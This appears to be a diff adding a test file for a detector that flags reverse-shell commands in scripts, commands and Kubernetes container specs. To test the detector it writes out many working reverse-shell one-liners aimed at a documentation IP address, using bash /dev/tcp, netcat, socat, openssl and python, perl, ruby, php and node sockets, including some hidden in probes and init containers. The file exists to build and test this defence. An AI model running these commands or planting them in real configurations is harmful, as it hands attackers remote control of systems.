@@ -1,0 +1,115 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { growth } from '../../lib/testing.ts';
+import { blank, cronJob, indicatorTable, passes, runs, script, UNSEEN } from '../testing.ts';
+import { NETCATS } from '../text/acts.ts';
+import { commandReverseShell } from './reverse-shell.ts';
+
+const image = 'registry.example.com/shop/web:2';
+
+indicatorTable(commandReverseShell, {
+  fires: {
+    'bash on its own network device': runs('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'),
+    'the same behind a dash and with other shells': runs(
+      '/bin/sh',
+      '-c',
+      '--',
+      'sh -i 5<> /dev/tcp/203.0.113.7/443 0<&5',
+    ),
+    'a descriptor and a loop that runs each line': script(
+      'exec 5<>/dev/tcp/203.0.113.7/443; while read line 0<&5; do $line 2>&5 >&5; done',
+    ),
+    'netcat that hands out a shell': runs('nc', '203.0.113.7', '4444', '-e', '/bin/sh'),
+    'ncat in shell text': script('ncat --ssl 203.0.113.7 3116 -e /bin/bash;'),
+    'ncat as the entrypoint of its image': passes('example/ncat', '203.0.113.7', '8989', '-e', '/bin/bash'),
+    'netcat with the option in a cluster': script('nc -lvnpe 4444 /bin/sh'),
+    'netcat of busybox with -c': runs('busybox', 'nc', '203.0.113.7', '4444', '-c', '/bin/sh'),
+    'a named pipe and netcat': script(
+      'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f',
+    ),
+    'a shell fed by netcat': script('nc 203.0.113.7 9001 | sh'),
+    'a shell over TLS': script(
+      'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s',
+    ),
+    'socat in capitals': runs('socat', 'TCP:203.0.113.7:8443', 'EXEC:/bin/bash,pty,stderr'),
+    'python with a socket and dup2': runs(
+      'python3',
+      '-c',
+      'import socket,os;s=socket.socket();s.connect(("203.0.113.7",9000));os.dup2(s.fileno(),0);os.system("/bin/sh")',
+    ),
+    'perl with a socket': runs(
+      'perl',
+      '-e',
+      'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");',
+    ),
+    'ruby with a socket': runs('ruby', '-rsocket', '-e', 'f=TCPSocket.open("203.0.113.7",4443);exec "/bin/sh -i <&%d"'),
+    'php with a socket': runs('php', '-r', '$s=fsockopen("203.0.113.7",443);exec("/bin/sh -i <&3 >&3 2>&3");'),
+    'node with a socket': runs(
+      'node',
+      '-e',
+      'var n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh",[]);new n.Socket().connect(80,"203.0.113.7")',
+    ),
+    'python in a here-document': script(
+      'python3 - <<EOF\nimport socket,pty\ns=socket.socket()\npty.spawn("/bin/bash")\n\nEOF',
+    ),
+    'behind wrappers': script("timeout 60 setsid bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'"),
+    'quotes inside the words': script('n\'\'c 203.0.113.7 4444 -e /bin/s"h"'),
+    'in a liveness probe': cronJob({
+      containers: [
+        {
+          name: 'web',
+          image,
+          livenessProbe: { exec: { command: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'] } },
+        },
+      ],
+    }),
+    'in an init container': cronJob({
+      containers: [{ name: 'web', image }],
+      initContainers: [{ name: 'first', image, command: ['nc', '203.0.113.7', '1', '-e', 'sh'] }],
+    }),
+    'in a script field': cronJob({
+      containers: [{ name: 'step', image, script: '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/1 0>&1' }],
+    }),
+  },
+  staysSilent: {
+    'a port test with the network device': script("timeout 1 bash -c '</dev/tcp/db.example.com/5432' && echo up"),
+    'a port test that writes': script('(echo > /dev/tcp/db/5432) >/dev/null 2>&1'),
+    'an HTTP request without curl': script('exec 3<>/dev/tcp/web/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'),
+    'netcat as a port test': script('until nc -z db 5432; do sleep 1; done'),
+    'netcat that sends a metric': script('echo "backup.ok 1 $(date +%s)" | nc -w 1 graphite 2003'),
+    'a script whose output is sent': script('sh /scripts/metrics.sh | nc graphite 2003'),
+    'netcat with TLS': script('echo ok | nc -c monitor.example.com 443'),
+    'socat as a relay': runs('socat', 'TCP-LISTEN:8080,fork', 'TCP:db:5432'),
+    'python that waits for a port': runs('python3', '-c', 'import socket; socket.create_connection(("db", 5432), 3)'),
+    'python that starts a program': runs('python3', '-c', 'import subprocess; subprocess.run(["/bin/sh", "/run.sh"])'),
+    'the words in a text that is printed': script("echo 'never run: bash -i >& /dev/tcp/203.0.113.7/443'"),
+    'an interactive shell': runs('bash', '-i'),
+    'no command set': blank,
+  },
+  cannotTell: UNSEEN,
+});
+
+for (const netcat of NETCATS) {
+  test(`${netcat} is known`, () =>
+    assert.equal(commandReverseShell.assess(runs(`/usr/bin/${netcat}`, '203.0.113.7', '1', '-e', 'sh')).kind, 'hit'));
+}
+
+for (const piece of [
+  'socket ',
+  'nc -e|',
+  'sh|nc|',
+  '/dev/tcp/',
+  'bash -c "',
+  '"socket /bin/sh" ',
+  'exec 5<>/dev/tcp/a/1;',
+  'awk ',
+]) {
+  test(`linear on repeated ${JSON.stringify(piece)}`, () => {
+    const ratio = growth((size) => {
+      const text = piece.repeat(Math.ceil(size / piece.length));
+      commandReverseShell.assess(script(text));
+      commandReverseShell.assess(runs('python3', '-c', text));
+    }, 100_000);
+    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
+  });
+}
